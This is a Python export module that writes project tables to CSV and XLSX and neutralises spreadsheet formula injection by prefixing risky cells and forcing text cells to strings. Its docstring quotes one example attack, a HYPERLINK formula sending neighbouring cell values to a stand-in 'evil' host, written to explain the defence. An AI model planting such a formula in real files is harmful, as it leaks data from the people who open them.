"""Tables out as CSV or XLSX, safe to open in a spreadsheet.

Every export of the project (reports, sites, indicators, dashboard tables) goes through here.
A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return would be taken by
Excel/LibreOffice as a formula (`=HYPERLINK("http://evil/?"&A3, …)` leaks neighbouring cells when
staff open the file): in CSV such a cell gets a leading `'`, in XLSX it is written as a string
cell (never a formula). Numbers, dates and booleans pass through as themselves."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CSV_MEDIA_TYPE = "text/csv; charset=utf-8"
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_text(value: Any) -> Any:
    """A CSV cell: text that could start a formula is prefixed with `'`; other values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def to_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """CSV text with a UTF-8 BOM (so Excel opens Vietnamese text correctly)."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([safe_text(h) for h in header])
    for row in rows:
        writer.writerow([safe_text(v) for v in row])
    return "\ufeff" + buf.getvalue()


def to_xlsx(sheets: dict[str, tuple[Sequence[str], Iterable[Sequence[Any]]]]) -> bytes:
    """An XLSX workbook, one sheet per entry (title → (header, rows)); text cells are strings."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    for title, (header, rows) in sheets.items():
        sheet = book.create_sheet(title[:31])

        def cells(values: Sequence[Any], sheet: Any = sheet) -> list[Any]:
            out = []
            for value in values:
                cell = WriteOnlyCell(sheet, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"  # never a formula, whatever the text starts with
                out.append(cell)
            return out

        sheet.append(cells(list(header)))
        for row in rows:
            sheet.append(cells(list(row)))
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def download(fmt: str, name: str, sheet: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Any:
    """A table as a file to download: `name.csv` (fmt "csv") or `name.xlsx` with one sheet."""
    from starlette.responses import Response

    if fmt == "csv":
        body, media = to_csv(header, rows).encode("utf-8"), CSV_MEDIA_TYPE
    else:
        body, media = to_xlsx({sheet: (header, rows)}), XLSX_MEDIA_TYPE
    return Response(body, media_type=media, headers={"Content-Disposition": f'attachment; filename="{name}.{fmt}"'})
